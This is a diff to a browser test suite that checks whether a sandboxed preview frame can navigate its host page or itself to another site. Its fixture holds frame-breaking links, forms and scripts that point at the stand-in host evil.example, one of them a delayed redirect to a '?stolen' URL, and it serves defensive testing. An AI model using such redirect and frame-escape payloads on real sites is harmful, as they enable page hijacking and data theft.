@@ -89,13 +89,18 @@ describe.skipIf(!hasChromium)(`the isolation of a preview${HOW_TO_ENABLE}`, () =
   it('cannot navigate the app away, nor itself to another host', async () => {
     const url = studio.page.url();
     await studio.run('a', {
-      'index.html': `<!doctype html><p>Stay</p><a id="top" href="https://evil.example/" target="_top">top</a><form id="form" action="https://evil.example/" target="_top"><button>send</button></form>
+      'index.html': `<!doctype html><p>Stay</p><a id="top" href="https://evil.example/" target="_top">top</a><form id="form" action="https://evil.example/" target="_top"><button>send</button></form><form id="self" action="https://evil.example/"></form>
 <script>try { top.location = 'https://evil.example/' } catch {} try { parent.location.replace('https://evil.example/') } catch {}</script>`,
     });
     const sheet = await studio.sheet();
     await sheet.click('#top');
     await sheet.click('button');
-    await sheet.evaluate(() => (document.getElementById('form') as HTMLFormElement).submit());
+    await sheet.evaluate(() => {
+      for (const form of document.forms) form.submit();
+      document.title = 'marked';
+    });
+    await expect.poll(async () => (await studio.snapshot()).blocked.length).toBeGreaterThan(0);
+    expect(await sheet.title()).toBe('marked');
     expect(studio.page.url()).toBe(url);
     expect(await studio.text()).toContain('Stay');
     await sheet.evaluate(() => void setTimeout(() => (location.href = 'https://evil.example/?stolen')));
